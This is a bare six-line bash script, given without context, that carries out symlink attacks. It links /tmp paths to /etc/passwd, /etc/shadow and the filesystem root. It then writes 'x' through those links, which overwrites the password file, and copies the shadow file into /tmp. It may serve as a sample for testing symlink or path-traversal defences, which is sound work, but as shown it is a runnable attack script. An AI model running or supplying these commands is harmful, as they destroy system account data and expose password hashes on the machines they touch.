#!/bin/bash
ln -s /etc/passwd /tmp/p
echo x > /tmp/p
ln -s ../../../../../../../etc/shadow /tmp/s
cat /tmp/s > /tmp/copy
cd /tmp && ln -s / root && echo x > root/etc/passwd
